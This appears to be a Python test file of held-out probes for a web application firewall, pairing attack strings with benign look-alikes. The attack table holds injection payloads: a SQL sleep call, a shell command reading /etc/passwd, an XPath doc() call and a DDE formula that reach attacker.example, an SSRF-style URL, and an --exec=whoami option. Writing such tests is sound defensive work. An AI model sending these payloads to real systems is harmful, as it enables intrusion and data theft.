"""WAF, part 2z52: held-out probes, seventy-fifth file (README: the
eighty-third round), written for this file on 2026-12-07. No string is
taken from a corpus or a public list: each class is written here in shapes
of our own, through the real edge (shipped config, bans off).

The classes the kennels, soapmaking, paragliding and mosaic corpora
showed when first replayed (at the eighty-second round's code, 9438e19)
that the round fixed, an attack the round refuses and a look-alike it
passes:
- quoted-call: a delay's call a pair of quotes holds whole, in a sentence
  (a false positive at 9438e19: a literal to SQL); the call between
  concatenations still refused.
- caps-abbreviation: a command's name in capitals after ";", then numbers
  and words (a false positive at 9438e19: no Unix shell finds a program
  so spelled); the same name given an option and a path still refused.
- comment-key: a filter document's own "$comment" key; a field named
  comment.
- doc-concat: XPath's doc() given a URL joined with a node's value by
  "||"; doc() given a file.
- backslash-at: "\\@" later in a URL, before a private address; before a
  handle.
- dde-call: DDE's function given a Windows program, no formula sign; DDE
  named in a sentence.
- exec-option: an option named for the command it runs, given a host
  probe; a usage line naming the operand.
Measured on 9438e19: the look-alikes of quoted-call and caps-abbreviation
were refused and their attacks refused; every other attack passed in
both placements and every other look-alike passed.

Each attack is sent as a query value (URL-encoded once, and once more:
the edge decodes repeatedly) and as a JSON body field; each look-alike
must pass in the same placements. A probe the edge gets wrong is listed
in KNOWN_MISSES or KNOWN_FALSE_POSITIVES with the reason, and runs as a
strict xfail."""

from wafkit import heldout_probe_tests, session, waf_config  # noqa: F401

CONF = waf_config()

ATTACKS = {
    "quoted-call": ["q'+sleep(5)+'"],
    "caps-abbreviation": ["x; SED -n p /etc/passwd"],
    "comment-key": ["{\"size\": {\"$gt\": 2}, \"$comment\": \"probe\"}"],
    "doc-concat": ["doc('https://x.attacker.example/?'||//pin[1])"],
    "backslash-at": ["https://cdn.example.org/img\\@192.168.1.20:8000/"],
    "dde-call": ["DDE(\"mshta\";\"https://x.attacker.example/a\";\"!A1\")"],
    "exec-option": ["--exec=whoami report.txt"],
}

BENIGN = {
    "quoted-call": ["Why is 'sleep(5)' in the quiz? odd"],
    "caps-abbreviation": ["Limit 40 mg; PS 0.002 → margin 20,000"],
    "comment-key": ["{\"size\": {\"$gt\": 2}, \"comment\": \"probe\"}"],
    "doc-concat": ["doc('menu.xml')//dish"],
    "backslash-at": ["https://example.org/users/\\@team"],
    "dde-call": ["The DDE protocol links cmd output to Excel"],
    "exec-option": ["--command=COMMAND  run a single command"],
}

KNOWN_MISSES = {}
KNOWN_FALSE_POSITIVES = {}

(edge, test_tables_are_balanced, test_heldout_r75_attack_refused_everywhere,
 test_heldout_r75_benign_passes) = heldout_probe_tests(
    "r75", CONF, ATTACKS, BENIGN, KNOWN_MISSES, KNOWN_FALSE_POSITIVES)
